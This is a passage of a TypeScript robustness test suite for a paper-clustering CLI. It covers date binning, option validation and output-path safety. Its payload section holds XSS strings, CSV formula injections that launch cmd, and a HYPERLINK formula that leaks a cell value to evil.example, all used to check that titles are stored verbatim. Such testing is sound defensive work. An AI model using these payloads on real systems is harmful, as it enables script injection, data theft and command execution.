    expect: { exit: 'any', kept: N, error: /bin|month/i },
  },
  {
    name: '--bin month over 1001..2024',
    category: 'dates',
    input: () => jsonl(papers().map((p, i) => ({ ...p, date: i === 0 ? '1001-01-01' : p.date }))),
    args: (p) => cli(p, '--bin', 'month'),
    expect: { exit: 'any', kept: N, error: /bin|month/i },
  },
  {
    name: '--bin quarter over 1000..9999',
    category: 'dates',
    input: () => jsonl(papers().map((p, i) => ({ ...p, date: i === 0 ? '1000-01-01' : i === 1 ? '9999-12-01' : p.date }))),
    args: (p) => cli(p, '--bin', 'quarter'),
    expect: { exit: 'any', kept: N, error: /bin|quarter/i },
  },
  {
    name: '--bin auto over 1000..9999',
    category: 'dates',
    input: () => jsonl(papers().map((p, i) => ({ ...p, date: i === 0 ? '1000-01-01' : i === 1 ? '9999-12-01' : p.date }))),
    expect: { exit: 0, kept: N },
  },
];

const OPTIONS: Case[] = [
  { name: '--k 0x10', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '0x10'), expect: optionError('k') },
  { name: '--k 1', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '1'), expect: optionError('k') },
  { name: '--k 0', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '0'), expect: optionError('k') },
  { name: '--k -3', category: 'options', input: okJsonl, args: (p) => cli(p, '--k=-3'), expect: optionError('k') },
  { name: '--k 2.5', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '2.5'), expect: optionError('k') },
  { name: '--k empty', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', ''), expect: optionError('k') },
  { name: '--k 1e1', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '1e1'), expect: { exit: 'any', error: /--k/ } },
  { name: '--seed 1e20', category: 'options', input: okJsonl, args: (p) => cli(p, '--seed', '1e20'), expect: optionError('seed') },
  { name: '--seed 0x2A', category: 'options', input: okJsonl, args: (p) => cli(p, '--seed', '0x2A'), expect: optionError('seed') },
  { name: '--seed beyond 2^53', category: 'options', input: okJsonl, args: (p) => cli(p, '--seed', '9007199254740993'), expect: optionError('seed') },
  { name: '--seed -1', category: 'options', input: okJsonl, args: (p) => cli(p, '--seed=-1'), expect: optionError('seed') },
  { name: '--epochs 0', category: 'options', input: okJsonl, args: (p) => ['--input', p.input, '--out', p.out, '--epochs', '0'], expect: optionError('epochs') },
  { name: '--min-df 1.5', category: 'options', input: okJsonl, args: (p) => cli(p, '--min-df', '1.5'), expect: optionError('min-df') },
  { name: '--max-df 0', category: 'options', input: okJsonl, args: (p) => cli(p, '--max-df', '0'), expect: optionError('max-df') },
  { name: '--min-dist 2', category: 'options', input: okJsonl, args: (p) => cli(p, '--min-dist', '2'), expect: optionError('min-dist') },
  { name: '--k-min above --k-max', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', 'auto', '--k-min', '5', '--k-max', '3'), expect: optionError('k-max') },
  { name: '--format xml', category: 'options', input: okJsonl, args: (p) => cli(p, '--format', 'xml'), expect: optionError('format') },
  { name: '--bin week', category: 'options', input: okJsonl, args: (p) => cli(p, '--bin', 'week'), expect: optionError('bin') },
  { name: 'unknown option', category: 'options', input: okJsonl, args: (p) => cli(p, '--frobnicate'), expect: optionError('frobnicate') },
  { name: 'positional argument', category: 'options', input: okJsonl, args: (p) => [...cli(p), 'stray.jsonl'], expect: { exit: 2, beforeWork: true } },
  { name: 'no --input', category: 'options', args: (p) => ['--out', p.out], expect: optionError('input') },
  { name: '--input without a value', category: 'options', args: () => ['--input'], expect: optionError('input') },
  { name: '--help', category: 'options', args: () => ['--help'], expect: { exit: 0, stdout: /^Usage: /, artifact: false } },
  { name: '--min-df above the corpus', category: 'options', input: okJsonl, args: (p) => cli(p, '--min-df', '1000'), expect: { exit: 2, error: /df/ } },
  { name: '--k above the corpus', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', '500'), expect: { exit: 'any', names: () => '--k' } },
  { name: '--neighbors above the corpus', category: 'options', input: okJsonl, args: (p) => cli(p, '--neighbors', '1000'), expect: { exit: 'any', kept: N, names: () => '--neighbors' } },
  { name: '--lsa-dims huge is clamped', category: 'options', input: okJsonl, args: (p) => cli(p, '--lsa-dims', '100000'), expect: kept(N) },
  { name: '--k auto on a small corpus', category: 'options', input: okJsonl, args: (p) => cli(p, '--k', 'auto'), expect: kept(N) },
];

const NOTES = { 'notes.txt': 'my thesis notes\n', 'drafts/ch1.md': '# chapter one\n' };
const writeNotes = (dir: string) => {
  for (const [rel, content] of Object.entries(NOTES)) {
    mkdirSync(join(dir, rel, '..'), { recursive: true });
    writeFileSync(join(dir, rel), content);
  }
};
/** As root, chmod does not stop writes: fall back to a folder the kernel itself keeps read-only. */
function readOnlyOut(p: Paths): string {
  const ro = join(p.dir, 'readonly');
  return process.getuid?.() === 0 ? '/sys/topic-atlas-robust-out' : ro;
}

const PATHS: Case[] = [
  {
    name: '--out is an existing file',
    category: 'paths',
    input: okJsonl,
    setup: (p) => writeFileSync(p.out, 'precious\n'),
    expect: { exit: 2, names: (p) => p.out, beforeWork: true, check: (p) => (readFileSync(p.out, 'utf8') === 'precious\n' ? [] : ['the file was changed']) },
  },
  {
    name: '--out is a read-only folder',
    category: 'paths',
    input: okJsonl,
    setup: (p) => { const ro = join(p.dir, 'readonly'); mkdirSync(ro, { recursive: true }); chmodSync(ro, 0o555); },
    args: (p) => cli({ ...p, out: readOnlyOut(p) }),
    expect: { exit: 2, names: readOnlyOut, beforeWork: true },
  },
  {
    name: '--out is a non-empty folder that is not an artifact',
    category: 'paths',
    input: okJsonl,
    setup: (p) => writeNotes(p.out),
    expect: { exit: 2, names: (p) => p.out, beforeWork: true, check: untouched(NOTES) },
  },
  {
    name: '--out holds one stray file',
    category: 'paths',
    input: okJsonl,
    setup: (p) => { mkdirSync(p.out, { recursive: true }); writeFileSync(join(p.out, 'index.html'), '<html></html>'); },
    expect: { exit: 2, names: (p) => p.out, beforeWork: true, check: untouched({ 'index.html': '<html></html>' }) },
  },
  { name: '--out is an empty folder', category: 'paths', input: okJsonl, setup: (p) => { mkdirSync(p.out, { recursive: true }); }, expect: kept(N) },
  { name: '--out in missing nested folders', category: 'paths', input: okJsonl, outName: 'a/b/c', expect: kept(N) },
  {
    name: '--out is a previous artifact',
    category: 'paths',
    input: okJsonl,
    setup: async (p) => {
      // A previous artifact of another corpus, written by the CLI itself.
      writeFileSync(join(p.dir, 'old.jsonl'), jsonl(papers(N + 6, 99)));
      const prev = await runMain(cli({ ...p, input: join(p.dir, 'old.jsonl') }, '--quiet'));
      if (prev.exit !== 0) throw new Error(`could not write the previous artifact: ${prev.stderr}`);
    },
    expect: {
      ...kept(N),
      check: (p) => {
        const left = readdirSync(p.out).filter((f) => f.includes('.tmp'));
        const n = inspectArtifact(p.out).manifest?.n;
        return [...(left.length ? [`temp files left: ${left.join(', ')}`] : []), ...(n === N ? [] : [`artifact n = ${n}, expected the new ${N}`])];
      },
    },
  },
  {
    name: '--timings-json in a missing folder',
    category: 'paths',
    input: okJsonl,
    args: (p) => cli(p, '--timings-json', join(p.dir, 'missing/t.json')),
    expect: { exit: 2, names: (p) => join(p.dir, 'missing'), beforeWork: true, check: noArtifactIn((p) => p.out) },
  },
  {
    name: '--timings-json is a folder',
    category: 'paths',
    input: okJsonl,
    setup: (p) => { mkdirSync(join(p.dir, 'tdir'), { recursive: true }); },
    args: (p) => cli(p, '--timings-json', join(p.dir, 'tdir')),
    expect: { exit: 2, names: (p) => join(p.dir, 'tdir'), beforeWork: true, check: noArtifactIn((p) => p.out) },
  },
  { name: '--timings-json written', category: 'paths', input: okJsonl, args: (p) => cli(p, '--timings-json', join(p.dir, 't.json')), expect: { ...kept(N), check: (p) => (existsSync(join(p.dir, 't.json')) ? [] : ['no timings file']) } },
  { name: '--update of a folder that is not an artifact', category: 'paths', input: okJsonl, setup: (p) => writeNotes(join(p.dir, 'notart')), args: (p) => cli(p, '--update', join(p.dir, 'notart')), expect: { exit: 2, names: (p) => join(p.dir, 'notart'), check: (p) => untouched(NOTES)({ ...p, out: join(p.dir, 'notart') }) } },
];

const PAYLOAD_TITLES = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("x")</script> in a title',
  'javascript:alert(document.cookie)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A1',
  '"><svg onload=alert(1)> {{constructor.constructor("alert(1)")()}}',
];

const PAYLOADS: Case[] = [
  ...PAYLOAD_TITLES.map((title, i): Case => ({
    name: `payload title ${i + 1} (JSONL): ${title.slice(0, 24)}`,
    category: 'payloads',
    input: () => jsonl(papers().map((p, j) => (j === 5 ? { ...p, title } : p))),
    expect: { ...kept(N), check: (p) => storedVerbatim(title)(p) },
  })),
  {
    name: 'payload titles (CSV)',
    category: 'payloads',
    ext: 'csv',
    input: () => csvOf(papers().map((p, j) => (j < PAYLOAD_TITLES.length ? { ...p, title: PAYLOAD_TITLES[j] } : p))),
    expect: { ...kept(N), check: (p) => PAYLOAD_TITLES.flatMap((t) => storedVerbatim(t)(p)) },
  },
  {
    name: 'payload in an abstract and an id',
    category: 'payloads',
    input: () => jsonl(papers().map((p, j) => (j === 3 ? { ...p, id: '<b>id</b>', abstract: `${p.abstract} <iframe src=javascript:alert(1)>` } : p))),
    expect: { ...kept(N), check: (p) => { const t = readTextsOf(p); return t && t.ids.includes('<b>id</b>') && t.docs.some((d) => d.abstract.endsWith('<iframe src=javascript:alert(1)>')) ? [] : ['id or abstract not stored verbatim']; } },
  },
];

export const CASES: Case[] = [...JSONL, ...JSON_ARRAY, ...CSV, ...GZIP, ...EMPTY_BINARY, ...ENCODING, ...ESCAPES, ...DATES, ...OPTIONS, ...PATHS, ...PAYLOADS];
